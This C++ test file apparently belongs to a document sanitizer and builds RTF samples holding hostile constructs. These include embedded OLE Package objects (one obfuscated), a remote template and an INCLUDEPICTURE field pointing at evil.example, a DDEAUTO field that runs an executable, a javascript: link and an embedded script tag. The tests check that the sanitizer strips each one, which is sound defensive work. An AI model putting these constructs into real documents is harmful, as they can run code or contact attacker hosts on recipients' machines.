// Rich Text Format. Digits of an object are those of the words beside.
#include "tests/sanitizer/rows/row.h"
#include "tests/sanitizer/rows/words.h"

namespace sekisho::rows {

namespace {

// What stands between {\rtf1 and words.
Bytes letter(const std::string& content) {
    return to_bytes("{\\rtf1\\ansi " + content + "\\pard words\\par}");
}

template <Words content> Bytes with() {
    return letter(content.text);
}

// An OLE 1.0 object of class "Package" ([MS-OLEDS] 2.2.5) with "evil program"; the digits of the class are P1 in the
// middle.
constexpr Words package{
    R"({\object\objemb\objw100\objh100{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500)"
    R"(00000000000000000c0000006576696c2070726f6772616d}{\result result}})"};
// The same class and content, between words and groups that readers skip.
constexpr Words hidden_package{
    R"({\object\objemb{\*\objdata 01050000{\*\junk x}02000000080000005061636b61676500\par 0000000000000000)"
    R"(0c0000006576696c2070726f6772616d}{\result result}})"};
constexpr Words linked{
    R"({\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105000001000000050000006576696c00}{\result result}})"};
constexpr Words control{R"({\object\objocx{\*\objdata 0105000002000000050000006576696c00}{\result result}})"};
constexpr Words outside_template{R"({\*\template http://evil.example/evil.dotm})"};
constexpr Words dde{R"({\field{\*\fldinst DDEAUTO c:\\\\windows\\\\evil.exe "/c calc"}{\fldrslt result}})"};
constexpr Words picture{R"({\field{\*\fldinst { in}{cludePicture "http://evil.example/a.png" \\d}}{\fldrslt result}})"};
constexpr Words link{R"rtf({\field{\*\fldinst HYPERLINK "javascript:evil()"}{\fldrslt result}})rtf"};
constexpr Words binary{R"({\*\evil\bin12 evil bytes }})"};
constexpr Words store{R"({\*\datastore 6576696c2073746f7265}{\*\themedata 6576696c207468656d65})"};
// A window, a rectangle, and a comment with "evil comment" ([MS-WMF] 2.3).
constexpr Words drawing{
    R"({\pict\wmetafile8\picw1000\pich1000\picwgoal600\pichgoal600 )"
    R"(0100090000030027000000000b0000000000050000000b0200000000050000000c02640064000b0000002606 0f000c006576696c20636f6d6d656e74)"
    R"(070000001b0450005000 0a000a00030000000000})"};
constexpr Words page{R"(\fromhtml1{\*\htmltag64 <script>evil()</script>}\htmlrtf\par\htmlrtf0 )"};

} // namespace

Row R01() {
    return {.made = {{.name = "package.rtf",
                      .make = with<package>,
                      .found = {Finding::rtf_object},
                      .gone = {"objdata", "evil program"},
                      .kept = {"words"}}},
            .also_refused = {Reason::convert_unreadable}, // a real one that LibreOffice does not read
            .never = {"oleObject", "Ole10Native"}};
}

Row R02() {
    return {.made = {{.name = "hidden.rtf",
                      .make = with<hidden_package>,
                      .found = {Finding::rtf_object, Finding::rtf_obfuscation},
                      .gone = {"objdata", "evil program"},
                      .kept = {"words"}}},
            .also_refused = {Reason::convert_unreadable}, // a real one whose data swallows its end
            .never = {"oleObject", "Ole10Native"}};
}

Row R03() {
    return {.made = {{.name = "linked.rtf",
                      .make = with<linked>,
                      .found = {Finding::rtf_object_link},
                      .gone = {"objautlink", "Word.Document.8"},
                      .kept = {"words"}},
                     {.name = "control.rtf",
                      .make = with<control>,
                      .found = {Finding::rtf_object_link},
                      .gone = {"objocx"},
                      .kept = {"words"}}},
            .never = {"oleObject", "activeX"}};
}

Row R04() {
    return {.made = {{.name = "template.rtf",
                      .make = with<outside_template>,
                      .found = {Finding::rtf_template},
                      .gone = {"evil.example"},
                      .kept = {"words"}}},
            .never = {"attachedTemplate"}};
}

Row R05() {
    return {.made = {{.name = "dde.rtf",
                      .make = with<dde>,
                      .found = {Finding::rtf_field},
                      .gone = {"DDEAUTO", "evil.exe"},
                      .kept = {"words"}},
                     {.name = "picture.rtf",
                      .make = with<picture>,
                      .found = {Finding::rtf_field},
                      .gone = {"evil.example"},
                      .never = {"INCLUDEPICTURE"},
                      .kept = {"words"}},
                     {.name = "link.rtf",
                      .make = with<link>,
                      .found = {Finding::ooxml_hyperlink},
                      .gone = {"javascript:"},
                      .kept = {"words", "result"}}},
            .also_plain = true,
            .never = {"DDEAUTO", "INCLUDEPICTURE", "javascript:"}};
}

Row R06() {
    return {.made = {{.name = "short-head.rtf",
                      .make = written<"{\\rt words\\par}">,
                      .found = {Finding::rtf_header},
                      .kept = {"words"}},
                     {.name = "named-otherwise.doc", .make = with<"">, .becomes = Type::docx, .kept = {"words"}},
                     {.name = "named-otherwise.jpg", .make = with<"">, .becomes = Type::docx, .kept = {"words"}}}};
}

Row R07() {
    return {.made = {{.name = "binary.rtf",
                      .make = with<binary>,
                      .found = {Finding::rtf_binary},
                      .gone = {"evil bytes"},
                      .kept = {"words"}},
                     {.name = "store.rtf",
                      .make = with<store>,
                      .found = {Finding::rtf_binary},
                      .gone = {"evil store", "evil theme"},
                      .kept = {"words"}}},
            .also_refused = {Reason::convert_unreadable}}; // a real one whose groups do not close
}

Row R08() {
    return {.made = {{.name = "drawing.rtf",
                      .make = with<drawing>,
                      .found = {Finding::rtf_metafile},
                      .gone = {"wmetafile", "evil comment"},
                      .kept = {"words"}}},
            .never = {".wmf", ".emf"}};
}

Row R09() {
    return {.made = {{.name = "page.rtf",
                      .make = with<page>,
                      .found = {Finding::rtf_html},
                      .gone = {"<script", "evil()"},
                      .kept = {"words"}}},
            .never = {"<script"}};
}

} // namespace sekisho::rows
